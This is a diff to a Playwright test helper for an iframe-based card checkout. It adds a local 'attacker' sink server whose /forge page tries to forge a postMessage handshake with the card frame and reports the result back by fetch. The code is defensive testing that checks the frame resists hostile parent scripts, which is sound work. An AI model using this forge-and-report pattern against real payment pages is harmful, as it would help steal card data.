@@ -7,6 +7,8 @@
  * Run against today's in-page `bindForm` page it must catch the number (e2e/hostile-parent.spec.ts):
  * the proof that the instrument sees what it claims. Against the framed checkout it must not.
  */
+import {createServer} from 'node:http';
+import type {AddressInfo} from 'node:net';
 import type {Page, Request} from '@playwright/test';
 
 /** One value the hostile script saw, by the channel it came through (`event:keydown`, `port:in`, `network:browser`…). */
@@ -373,4 +375,52 @@ export async function plantCanary(page: Page, canary: string) {
 /** The channels that recorded `canary`. */
 export function canaryChannels(loot: readonly Seen[], canary: string): string[] {
 	return [...new Set(loot.filter(seen => seen.text.includes(canary)).map(seen => seen.channel))].sort();
+}
+
+/** The attacker's own server: every request it receives, and the page that forges a handshake from a third origin. */
+export type Sink = {url: string; received: string[]; close(): Promise<void>};
+
+/**
+ * Starts the attacker's server on `localhost` (another site than the 127.0.0.1 checkout). It
+ * records every request; `/forge` is a page that, opened by the checkout, posts a `connect` with
+ * its own port to the card frame (`opener.frames[0]`) and reports to `/forged` whether the frame
+ * ever answered on that port.
+ */
+export async function startSink(): Promise<Sink> {
+	const received: string[] = [];
+	const server = createServer((request, response) => {
+		received.push(`${request.method} ${request.url}`);
+		if (request.url === '/forge') {
+			response.writeHead(200, {'content-type': 'text/html'}).end(`<!doctype html><title>forge</title><link rel="icon" href="data:,"><script>
+				let outcome = 'posted';
+				try {
+					const channel = new MessageChannel();
+					channel.port1.onmessage = event => fetch('/answered?' + encodeURIComponent(JSON.stringify(event.data)));
+					opener.frames[0].postMessage({zc: 1, type: 'connect'}, '*', [channel.port2]);
+					channel.port1.postMessage({zc: 1, type: 'submit', id: 1});
+					channel.port1.postMessage({zc: 1, type: 'focus', field: 'number'});
+					window.forgedPort = channel.port1;
+				} catch (error) {
+					outcome = String(error);
+				}
+				fetch('/forged?' + encodeURIComponent(outcome));
+			</script>`);
+			return;
+		}
+
+		response.writeHead(204, {'access-control-allow-origin': '*'}).end();
+	});
+	await new Promise<void>(resolve => {
+		server.listen(0, '127.0.0.1', resolve);
+	});
+	return {
+		url: `http://localhost:${(server.address() as AddressInfo).port}`,
+		received,
+		async close() {
+			server.closeAllConnections();
+			await new Promise(resolve => {
+				server.close(resolve);
+			});
+		},
+	};
 }
